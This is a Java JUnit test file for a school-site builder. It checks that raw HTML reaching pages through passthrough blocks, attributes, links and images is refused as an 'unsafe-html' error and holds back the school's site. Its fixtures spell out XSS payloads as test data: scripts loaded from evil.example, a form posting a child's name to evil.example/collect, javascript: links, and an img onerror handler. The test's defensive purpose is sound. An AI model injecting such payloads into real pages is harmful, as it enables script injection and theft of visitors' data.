package org.polisi.site.check;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.polisi.site.BuildResult;
import org.polisi.site.FixtureTree;
import org.polisi.site.problem.Problem;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Tester 4's fault 8 and its kind: every route by which content hands the page HTML unescaped, or a
 * link that runs code or shows another site, is checked, and each refusal is an {@code unsafe-html}
 * error at its file and line that holds the school back (its last good pages stay online). Inert
 * HTML in a passthrough, and the same markup in listing and comment blocks, still build.
 */
class RawHtmlTest {
    private static final String PAGE = "= Rules\n:page-kind: page\n\nBe kind.\n\n";

    @Test
    void everyRouteToUncheckedHtmlIsAnErrorAtItsLineAndHoldsTheSchoolBack(@TempDir Path folder) {
        FixtureTree tree = FixtureTree.in(folder)
                .write("schools/widgets/school.yml", "name: {en: Widget School}\nlanguages: [en]\nattributes:\n"
                        + "  widget: \"pass:[<script src='https://evil.example/w.js'></script>]\"\n")
                .writeBytes("schools/widgets/assets/logo.png", AuthoredAssetsTest.PNG)
                // the tester's example, as written (lines 6-9 and 11-13: the script at 7, the form at 8, the image at 12)
                .write("schools/widgets/en/tester.adoc", PAGE
                        + "++++\n<script src=\"https://evil.example/x.js\"></script>\n"
                        + "<form action=\"https://evil.example/collect\" method=\"post\"><input name=\"child-name\"><button>Send</button></form>\n"
                        + "++++\n\n++++\n<img src=\"https://evil.example/p.png\" alt=\"x\">\n++++\n")
                .write("schools/widgets/en/variants.adoc", PAGE
                        + "Click pass:[<a href=\"javascript:alert(2)\">here</a>] now.\n"          // 6
                        + "\n"
                        + "A +++<iframe src=\"//evil.example/\"></iframe>+++ frame.\n"            // 8
                        + "\n"
                        + "[pass]\n"                                                                // 10
                        + "<p>Fine</p>\n"
                        + "<object data=\"https://evil.example/x.swf\"></object>\n"               // 12
                        + "\n"
                        + "link:javascript:alert(1)[Click]\n"                                      // 14
                        + "\n"
                        + "image::logo.png[The crest,link=javascript:alert(1)]\n"                 // 16
                        + "\n"
                        + "video::dQw4w9WgXcQ[youtube]\n"                                          // 18
                        + "\n"
                        + "++++\n<div style=\"background:url(https://evil.example/p.png)\" onclick=\"go()\">x</div>\n++++\n" // 21
                        + "\n[subs=none]\n----\n<script>alert(3)</script>\n----\n"                        // 26
                        + "\n[subs=\"quotes\"]\nA <iframe src=\"https://evil.example/\"></iframe> frame.\n")  // 30
                .write("schools/widgets/en/header.adoc", "= Header\n:page-kind: page\n:description: pass:[<img src=x onerror=alert(1)>]\n\n"
                        + "Text. {widget}\n")
                // a settings value becomes an attribute entry, whose header substitutions escape it
                .write("schools/inert/school.yml", "name: {en: Inert School}\nlanguages: [en]\nattributes:\n"
                        + "  note: \"<script>from the settings</script>\"\n")
                // docinfo files are not read: pages are converted embedded
                .write("schools/inert/en/docinfo.html", "<script>shared docinfo</script>\n")
                .write("schools/inert/en/docinfo-footer.html", "<script>shared docinfo footer</script>\n")
                .write("schools/inert/en/notes-docinfo.html", "<script>private docinfo</script>\n")
                .write("schools/inert/en/notes.adoc", "= Notes\n:page-kind: page\n:docinfo: shared,private\n\nThe note: {note}.\n\n"
                        + "[subs=\"+quotes\"]\nA <b>bold</b> claim.\n")
                .write("schools/inert/en/page.adoc", PAGE
                        + "++++\n<p>Ask the <abbr title=\"designated safeguarding lead\">DSL</abbr>.</p>\n++++\n\n"
                        + "----\n<script>shown as text in a listing</script>\n++++\n----\n\n"
                        + "////\n++++\n<script>commented out</script>\n++++\n////\n\n"
                        + "Press pass:[<kbd>Ctrl</kbd>] and +++<em>this</em>+++.\n");
        BuildResult result = tree.build();
        List<String> found = result.errors().stream().filter(p -> p.code().equals("unsafe-html"))
                .map(p -> tree.content().relativize(p.file()) + ":" + p.line()).sorted().toList();
        assertEquals(List.of(
                "schools/widgets/en/header.adoc:3",
                "schools/widgets/en/tester.adoc:12",
                "schools/widgets/en/tester.adoc:7",
                "schools/widgets/en/tester.adoc:8", "schools/widgets/en/tester.adoc:8", "schools/widgets/en/tester.adoc:8",
                "schools/widgets/en/variants.adoc:12",
                "schools/widgets/en/variants.adoc:14",
                "schools/widgets/en/variants.adoc:16",
                "schools/widgets/en/variants.adoc:18",
                "schools/widgets/en/variants.adoc:21", "schools/widgets/en/variants.adoc:21",
                "schools/widgets/en/variants.adoc:26",
                "schools/widgets/en/variants.adoc:30",
                "schools/widgets/en/variants.adoc:6",
                "schools/widgets/en/variants.adoc:8",
                "schools/widgets/school.yml:4"), found, result.errors().toString());
        for (Problem problem : result.errors()) {
            assertFalse(problem.message().contains("Exception"), problem.message());
        }
        assertEquals(Set.of("inert"), result.publishedSites());
        assertTrue(result.heldBack().contains("widgets"));
        assertFalse(Files.exists(tree.published("widgets")), "nothing of the school with unsafe HTML is published");
        String inert = FixtureTree.readFile(tree.published("inert/en/page.html"));
        assertTrue(inert.contains("<abbr title=\"designated safeguarding lead\">DSL</abbr>"), inert);
        assertTrue(inert.contains("&lt;script&gt;shown as text"), inert);
        assertFalse(inert.contains("<script>"), inert);
        assertTrue(inert.contains("<kbd>Ctrl</kbd>") && inert.contains("<em>this</em>"), inert);
        assertEquals(List.of(), result.errors().stream().filter(p -> p.file().toString().contains("inert")).toList());
        String notes = FixtureTree.readFile(tree.published("inert/en/notes.html"));
        assertTrue(notes.contains("&lt;script&gt;from the settings&lt;/script&gt;"), notes);
        assertTrue(notes.contains("A &lt;b&gt;bold&lt;/b&gt; claim."), notes);
        assertFalse(notes.contains("docinfo") || notes.contains("<script>"), notes);
    }

    /**
     * A template page that the schools of a cluster inherit unchanged is read once for raw HTML
     * (docs/adr/0095), and its refusal is what it was when each school's copy was read: one error
     * at the template's line (the report keeps one of identical problems), and every school whose
     * pages come from that template is held back, as an error in a cluster's file holds back its
     * schools; the page is refused whichever school's pages are read first.
     */
    @Test
    void aTemplatePageInheritedByManySchoolsIsRefusedAtItsLine(@TempDir Path folder) {
        FixtureTree tree = FixtureTree.in(folder)
                .write("clusters/shared/cluster.yml", "name: {en: Shared}\nlanguages: [en]\n")
                .write("clusters/shared/en/rules.adoc", PAGE + "Safe text.\n\n++++\n<script src=\"https://evil.example/x.js\"></script>\n++++\n")
                .write("clusters/shared/en/about.adoc", PAGE + "Nothing raw here.\n");
        for (String school : List.of("aber", "bryn", "cwm")) {
            tree.write("schools/" + school + "/school.yml", "name: {en: School " + school + "}\nlanguages: [en]\nadopts: shared\n");
        }
        tree.write("schools/aber/en/rules.adoc", PAGE + "Our own rules.\n");
        BuildResult result = tree.build();
        List<String> unsafe = result.errors().stream().filter(p -> p.code().equals("unsafe-html"))
                .map(p -> tree.content().relativize(p.file()) + ":" + p.line()).toList();
        assertEquals(List.of("clusters/shared/en/rules.adoc:9"), unsafe, result.errors().toString());
        assertTrue(result.heldBack().containsAll(List.of("bryn", "cwm")), result.heldBack().toString());
    }
}
